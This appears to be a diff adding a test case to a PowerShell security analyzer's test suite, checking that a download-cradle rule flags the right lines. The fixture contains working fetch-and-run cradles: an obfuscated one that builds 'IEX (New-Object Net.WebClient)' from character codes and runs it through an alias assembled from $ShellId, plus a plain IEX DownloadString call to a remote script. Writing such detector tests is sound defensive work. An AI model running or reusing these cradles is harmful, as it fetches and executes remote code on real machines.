@@ -68,3 +68,14 @@ def test_a_native_tools_literal_password_is_reported_in_a_script_that_names_no_s
         schtasks /create /tn Sync /tr C:\\Tools\\sync.exe /ru SYSTEM
     """)
     assert lines_of(result, "PSAvoidHardcodedCredential") == [2, 3]
+
+
+def test_a_cradle_string_run_by_invoke_expression_is_a_cradle_even_after_the_command_name() -> None:
+    result = analyze("""
+        $k = [string]::new([char[]](73, 69, 88, 32, 40, 78, 101, 119, 45, 79, 98, 106, 101, 99, 116, 32, 78, 101, 116, 46, 87, 101, 98, 67, 108, 105, 101, 110, 116, 41))
+        $tail = '.DownloadString(''http://185.220.101.7/a.ps1'')'
+        &($ShellId[1] + $ShellId[13] + 'x') ($k + $tail)
+        iex 'IEX (New-Object Net.WebClient).DownloadString(''http://203.0.113.9/b.ps1'')'
+        iex '(New-Object Net.WebClient).DownloadString(''http://203.0.113.9/version.txt'')'
+    """)
+    assert lines_of(result, "PSDownloadCradle") == [3, 4]
